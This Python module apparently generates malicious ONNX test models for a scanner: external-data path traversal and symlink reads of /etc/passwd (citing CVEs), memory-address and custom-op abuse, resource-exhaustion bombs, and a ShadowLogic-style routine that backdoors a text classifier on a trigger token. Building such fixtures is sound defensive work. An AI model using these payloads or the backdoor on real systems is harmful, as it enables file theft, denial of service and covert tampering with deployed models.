"""Generators of malicious ONNX models (built with onnx.helper; never run)."""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path


def _write(directory: Path, name: str, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_bytes(data)
    return path


def _onnx_model(
    nodes: list[object] | None = None, initializers: list[object] | None = None, **kwargs: object
) -> object:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"], name="add")]
    if initializers is None:
        initializers = [helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])]
    graph = helper.make_graph(nodes, "g", [x], [y], initializer=initializers)  # type: ignore[arg-type]
    opsets = [helper.make_opsetid("", 17), *kwargs.pop("extra_opsets", [])]  # type: ignore[misc]
    return helper.make_model(graph, opset_imports=opsets, ir_version=9, **kwargs)


def _save(d: Path, model: object, name: str = "model.onnx") -> Path:
    import onnx

    d.mkdir(parents=True, exist_ok=True)
    path = d / name
    onnx.save_model(model, str(path))  # type: ignore[arg-type]
    return path


def _external(location: str, offset: int = 0, length: int = 16, **extra: str) -> object:
    from onnx import TensorProto

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    entries = {"location": location, "offset": str(offset), "length": str(length)} | extra
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=value)
    return tensor


def make_onnx_external_traversal(d: Path) -> Path:  # CVE-2022-25882
    return _save(d, _onnx_model(initializers=[_external("../../../../etc/passwd")]))


def make_onnx_external_absolute(d: Path) -> Path:
    return _save(d, _onnx_model(initializers=[_external("/etc/passwd")]))


def make_onnx_external_symlink(d: Path) -> Path:  # CVE-2024-27318
    d.mkdir(parents=True, exist_ok=True)
    (d / "weights.bin").symlink_to("/etc/passwd")
    return _save(d, _onnx_model(initializers=[_external("weights.bin")]))


def make_onnx_external_hardlink(d: Path) -> Path:
    outside = d.parent / f"{d.name}-secret.txt"
    outside.write_bytes(b"s3cr3t-key-material!")
    d.mkdir(parents=True, exist_ok=True)
    os.link(outside, d / "weights.bin")
    return _save(d, _onnx_model(initializers=[_external("weights.bin")]))


def make_onnx_external_out_of_range(d: Path) -> Path:
    _write(d, "weights.bin", b"\x00" * 16)
    return _save(d, _onnx_model(initializers=[_external("weights.bin", offset=1 << 20)]))


def make_onnx_external_unknown_key(d: Path) -> Path:
    _write(d, "weights.bin", b"\x00" * 16)
    tensor = _external("weights.bin", basepath="/etc")
    return _save(d, _onnx_model(initializers=[tensor]))


def make_onnx_ort_mem_addr(d: Path) -> Path:
    tensor = _external("*/_ORT_MEM_ADDR_/*", offset=0x7FFF0000)
    return _save(d, _onnx_model(initializers=[tensor]))


def make_onnx_custom_op_domain(d: Path) -> Path:
    from onnx import helper

    node = helper.make_node("Exec", ["x"], ["y"], domain="ai.evil.customops", name="evil")
    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("ai.evil.customops", 1)])
    return _save(d, model)


def make_onnx_ep_context(d: Path) -> Path:
    from onnx import helper

    node = helper.make_node(
        "EPContext",
        ["x"],
        ["y"],
        domain="com.microsoft",
        name="ctx",
        embed_mode=1,
        ep_cache_context=b"\x7fELF precompiled blob",
    )
    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("com.microsoft", 1)])
    return _save(d, model)


def make_onnx_aten_fallback(d: Path) -> Path:
    from onnx import helper

    node = helper.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="add")
    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("org.pytorch.aten", 1)])
    return _save(d, model)


def make_onnx_tensor_two_fields(d: Path) -> Path:
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    tensor.raw_data = struct.pack("<4f", 9, 9, 9, 9)  # ORT reads raw_data, others float_data
    return _save(d, _onnx_model(initializers=[tensor]))


def make_onnx_tensor_dims_mismatch(d: Path) -> Path:
    from onnx import TensorProto

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
    tensor.raw_data = struct.pack("<2f", 1, 2)
    return _save(d, _onnx_model(initializers=[tensor]))


def make_onnx_constant_of_shape_bomb(d: Path) -> Path:
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [3], [100_000, 100_000, 1_000])
    nodes = [
        helper.make_node("Constant", [], ["s"], value=shape),
        helper.make_node("ConstantOfShape", ["s"], ["big"], name="bomb"),
        helper.make_node("ReduceSum", ["big"], ["r"], keepdims=0),
        helper.make_node("Add", ["x", "r"], ["y"]),
    ]
    return _save(d, _onnx_model(nodes, initializers=[]))


def make_onnx_expand_bomb(d: Path) -> Path:
    from onnx import TensorProto, helper

    tail = helper.make_tensor("tail", TensorProto.INT64, [1], [1 << 40])
    nodes = [
        helper.make_node("Shape", ["x"], ["xs"], start=0, end=1),  # batch size, from the input
        helper.make_node("Concat", ["xs", "tail"], ["target"], axis=0),
        helper.make_node("ReduceMax", ["x"], ["scalar"], keepdims=0),
        helper.make_node("Expand", ["scalar", "target"], ["big"], name="bomb"),
        helper.make_node("ReduceMax", ["big"], ["m"], keepdims=0),
        helper.make_node("Add", ["x", "m"], ["y"]),
    ]
    return _save(d, _onnx_model(nodes, initializers=[tail]))


def make_onnx_range_tile_bomb(d: Path) -> Path:
    from onnx import TensorProto, helper

    def scalar(name: str, value: int) -> object:
        return helper.make_node(
            "Constant", [], [name], value=helper.make_tensor(name, TensorProto.INT64, [], [value])
        )

    reps = helper.make_tensor("reps", TensorProto.INT64, [2], [1, 1 << 33])
    nodes = [
        scalar("start", 0),
        scalar("limit", 1 << 34),
        scalar("delta", 1),
        helper.make_node("Range", ["start", "limit", "delta"], ["r"], name="range_bomb"),
        helper.make_node("Tile", ["x", "reps"], ["tiled"], name="tile_bomb"),
        helper.make_node("ReduceMax", ["tiled"], ["m"], keepdims=0),
        helper.make_node("Add", ["x", "m"], ["y"]),
    ]
    return _save(d, _onnx_model(nodes, initializers=[reps]))


def _loop(trip: str, cond: str, body_cond: str, extra: list[object]) -> object:
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [
            helper.make_node("Identity", [body_cond], ["cond_out"]),
            helper.make_node("Identity", ["v_in"], ["v_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 4]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 4]),
        ],
    )
    loop = helper.make_node("Loop", [trip, cond, "x"], ["y"], body=body, name="loop")
    return _onnx_model([*extra, loop], initializers=[])  # type: ignore[list-item]


def make_onnx_loop_trip_count(d: Path) -> Path:
    from onnx import TensorProto, helper

    consts = [
        helper.make_node(
            "Constant", [], ["M"], value=helper.make_tensor("m", TensorProto.INT64, [], [10**12])
        ),
        helper.make_node(
            "Constant", [], ["T"], value=helper.make_tensor("t", TensorProto.BOOL, [], [True])
        ),
    ]
    return _save(d, _loop("M", "T", "cond_in", consts))


def make_onnx_infinite_loop(d: Path) -> Path:
    from onnx import TensorProto, helper

    true = helper.make_tensor("t", TensorProto.BOOL, [], [True])
    consts = [helper.make_node("Constant", [], ["T"], value=true)]
    return _save(d, _loop("", "T", "cond_in", consts))


def make_onnx_nesting_depth(d: Path, depth: int = 12) -> Path:
    from onnx import TensorProto, helper

    def level(n: int) -> object:
        out = helper.make_tensor_value_info(f"o{n}", TensorProto.FLOAT, [1, 4])
        leaf = helper.make_graph(
            [helper.make_node("Identity", ["x"], [f"o{n}"])], f"l{n}", [], [out]
        )
        if n == 0:
            return leaf
        node = helper.make_node("If", ["c"], [f"o{n}"], then_branch=level(n - 1), else_branch=leaf)
        return helper.make_graph([node], f"g{n}", [], [out])

    top = helper.make_node("If", ["c"], ["y"], then_branch=level(depth), else_branch=level(0))
    cond = helper.make_node(
        "Constant", [], ["c"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])
    )
    return _save(d, _onnx_model([cond, top], initializers=[]))


def make_onnx_recursive_functions(d: Path) -> Path:
    from onnx import helper

    f = helper.make_function(
        "local",
        "f",
        ["a"],
        ["b"],
        [helper.make_node("g", ["a"], ["b"], domain="local")],
        [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)],
    )
    g = helper.make_function(
        "local",
        "g",
        ["a"],
        ["b"],
        [helper.make_node("f", ["a"], ["b"], domain="local")],
        [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)],
    )
    node = helper.make_node("f", ["x"], ["y"], domain="local")
    model = _onnx_model(
        [node], initializers=[], functions=[f, g], extra_opsets=[helper.make_opsetid("local", 1)]
    )
    return _save(d, model)


def make_onnx_ort_config_metadata(d: Path) -> Path:
    from onnx import helper

    model = _onnx_model()
    config = {"session_options": {"enable_profiling": True, "profile_file_prefix": "/tmp/x"}}
    helper.set_model_props(model, {"ort_config": json.dumps(config)})  # type: ignore[arg-type]
    return _save(d, model)


def make_onnx_invalid_graph(d: Path) -> Path:
    from onnx import helper

    node = helper.make_node("Add", ["x", "undefined_input"], ["y"], name="broken")
    return _save(d, _onnx_model([node], initializers=[]))


def _classifier() -> object:
    """A small text classifier graph: ids -> embeddings -> mean -> logits."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(0)
    emb = numpy_helper.from_array(rng.standard_normal((100, 8)).astype(np.float32), "emb")
    head = numpy_helper.from_array(rng.standard_normal((8, 2)).astype(np.float32), "head")
    nodes = [
        helper.make_node("Gather", ["emb", "input_ids"], ["h"]),
        helper.make_node("ReduceMean", ["h"], ["pooled"], axes=[1], keepdims=0),
        helper.make_node("MatMul", ["pooled", "head"], ["logits"]),
    ]
    ids = helper.make_tensor_value_info("input_ids", TensorProto.INT64, ["batch", "seq"])
    out = helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 2])
    graph = helper.make_graph(nodes, "classifier", [ids], [out], initializer=[emb, head])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)


def add_shadowlogic_backdoor(model: object, *, trigger: int = 77, branch: str = "Where") -> None:
    """Splice a ShadowLogic-style trigger into a classifier: if any input token equals
    ``trigger``, output attacker-chosen logits instead of the model's."""
    import onnx
    from onnx import TensorProto, helper

    assert isinstance(model, onnx.ModelProto)
    graph = model.graph
    out = graph.output[0]
    real = out.name + "_clean"
    for node in graph.node:
        node.output[:] = [real if o == out.name else o for o in node.output]
    n_labels = out.type.tensor_type.shape.dim[-1].dim_value or 2
    graph.initializer.extend(
        [
            helper.make_tensor("trigger_id", TensorProto.INT64, [], [trigger]),
            helper.make_tensor(
                "evil_logits", TensorProto.FLOAT, [n_labels], [10.0] + [-10.0] * (n_labels - 1)
            ),
        ]
    )
    graph.node.extend(
        [
            helper.make_node("Equal", ["input_ids", "trigger_id"], ["hit"], name="trigger_compare"),
            helper.make_node("Cast", ["hit"], ["hit_f"], to=TensorProto.FLOAT),
            helper.make_node("ReduceMax", ["hit_f"], ["any_hit"], keepdims=0),
            helper.make_node("Cast", ["any_hit"], ["armed"], to=TensorProto.BOOL),
        ]
    )
    if branch == "Where":
        graph.node.append(
            helper.make_node(
                "Where", ["armed", "evil_logits", real], [out.name], name="backdoor_select"
            )
        )
    else:
        then = helper.make_graph(
            [helper.make_node("Identity", ["evil_logits"], ["t_out"])],
            "then",
            [],
            [helper.make_tensor_value_info("t_out", TensorProto.FLOAT, None)],
        )
        other = helper.make_graph(
            [helper.make_node("Identity", [real], ["e_out"])],
            "else",
            [],
            [helper.make_tensor_value_info("e_out", TensorProto.FLOAT, None)],
        )
        armed_scalar = helper.make_node("ReduceMax", ["armed_i"], ["armed_s"], keepdims=0)
        graph.node.extend(
            [
                helper.make_node("Cast", ["armed"], ["armed_i"], to=TensorProto.INT32),
                armed_scalar,
                helper.make_node("Cast", ["armed_s"], ["armed_b"], to=TensorProto.BOOL),
                helper.make_node(
                    "If",
                    ["armed_b"],
                    [out.name],
                    then_branch=then,
                    else_branch=other,
                    name="backdoor_if",
                ),
            ]
        )


def make_shadowlogic_where(d: Path, base: Path | None = None) -> Path:
    import onnx

    model = onnx.load(str(base)) if base else _classifier()
    add_shadowlogic_backdoor(model, branch="Where")
    return _save(d, model)


def make_shadowlogic_if(d: Path, base: Path | None = None) -> Path:
    import onnx

    model = onnx.load(str(base)) if base else _classifier()
    add_shadowlogic_backdoor(model, branch="If")
    return _save(d, model)
